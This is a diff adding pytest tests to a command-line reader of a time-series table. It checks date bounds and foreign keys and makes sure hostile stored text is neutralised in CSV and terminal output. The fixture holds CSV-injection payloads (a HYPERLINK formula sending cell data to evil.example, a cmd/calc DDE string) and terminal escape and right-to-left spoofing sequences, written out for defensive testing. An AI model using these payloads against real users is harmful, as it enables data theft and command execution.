@@ -458,6 +458,10 @@ def test_cli_latest(players: DownloaderTable, capsys: pytest.CaptureFixture[str]
         (["T", "--downloader-id", "x", "--from", "2026-11-27T05:00:00Z",
           "--to", "2026-11-27T06:00:00Z", "--format", "xml"], "argument --format: invalid choice"),
         (["T", "draw", "--downloader-id", "x"], "argument command: invalid choice: 'draw'"),
+        (["T", "--downloader-id", "x", "--from", "9999-12-31T23:59:59.5Z",
+          "--to", "9999-12-31T23:59:59Z"], "is outside the years 1 to 9999"),
+        (["T", "--downloader-id", "x", "--from", "0001-01-01T00:00:00+01:00",
+          "--to", "2026-11-27T06:00:00Z"], "is outside the years 1 to 9999"),
     ],
 )  # fmt: skip
 def test_cli_bad_arguments_exit_2_with_one_line(args: list[str], message: str) -> None:
@@ -498,3 +502,72 @@ def test_latest_reads_a_few_items_not_a_megabyte(players: DownloaderTable) -> No
     assert latest is not None and latest["sk"] == at(MINUTES - 1)
     [query] = spy.queries
     assert (query["Limit"], query["ScanIndexForward"]) == (10, False)
+
+
+# --- third-party text, and keys that are not answers (issue 26, 6) -----------------------------
+
+HOSTILE = {
+    "formula": '=HYPERLINK("https://evil.example/?d="&A1,"click")',
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "escape": "\x1b]0;owned\x07\x1b[2J\x9b31mred\u202egnp.exe",
+}
+
+
+@pytest.fixture
+def hostile(players: DownloaderTable) -> Iterator[str]:
+    """One stored answer of third-party text at minute 30, deleted afterwards."""
+    client, key = players._client, {"pk": {"S": "eve/player-count"}, "sk": {"S": at(30)}}
+    item = {**key, "count": {"N": "-5"}, **{k: {"S": v} for k, v in HOSTILE.items()}}
+    client.put_item(TableName=players.table_name, Item=item)
+    yield at(30)
+    client.delete_item(TableName=players.table_name, Key=key)
+
+
+def test_cli_csv_cells_a_spreadsheet_would_run_are_text(
+    players: DownloaderTable, hostile: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert read_main(players, "--from", hostile, "--to", at(31), "--format", "csv") == 0
+    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert row["formula"] == "'" + HOSTILE["formula"]
+    assert row["at"] == "'" + HOSTILE["at"]
+    assert row["count"] == "-5"  # a number stays a number
+
+
+@pytest.mark.parametrize("form", ["csv", "jsonl"])
+def test_cli_on_a_terminal_control_characters_are_shown_escaped(
+    players: DownloaderTable, hostile: str, form: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    class Terminal(io.StringIO):
+        def isatty(self) -> bool:
+            return True
+
+    terminal = Terminal()
+    monkeypatch.setattr(sys, "stdout", terminal)
+    assert read_main(players, "--from", hostile, "--to", at(31), "--format", form) == 0
+    shown = terminal.getvalue()
+    assert not any((ord(c) < 32 and c != "\n") or 0x7F <= ord(c) <= 0x9F for c in shown)
+    assert "\u202e" not in shown and "\\u202e" in shown
+    assert "\\x9b31mred" in shown
+
+
+def test_only_keys_the_downloader_writes_are_read(players: DownloaderTable) -> None:
+    """Another writer's items in the partition: a key after every time, a time with junk, an
+    impossible time. latest() and between() never take them for answers."""
+    client = players._client
+    keys = ["zzz", "~", "9999-99-99T99:99:99Z", at(5)[:-1] + "Y", at(5) + "junk"]
+    for key in keys:
+        client.put_item(TableName=players.table_name,
+                        Item={"pk": {"S": "eve/player-count"}, "sk": {"S": key}})  # fmt: skip
+    try:
+        latest = players.latest()
+        assert latest is not None and latest["sk"] == at(MINUTES - 1)
+        assert sks(players.between(at(4), at(6))) == [at(4), at(5)]
+    finally:
+        for key in keys:
+            client.delete_item(TableName=players.table_name,
+                               Key={"pk": {"S": "eve/player-count"}, "sk": {"S": key}})  # fmt: skip
+
+
+def test_a_time_past_year_9999_is_a_value_error(players: DownloaderTable) -> None:
+    with pytest.raises(ValueError, match="outside the years 1 to 9999"):
+        players.between("9999-12-31T23:59:59.5Z", "9999-12-31T23:59:59Z")
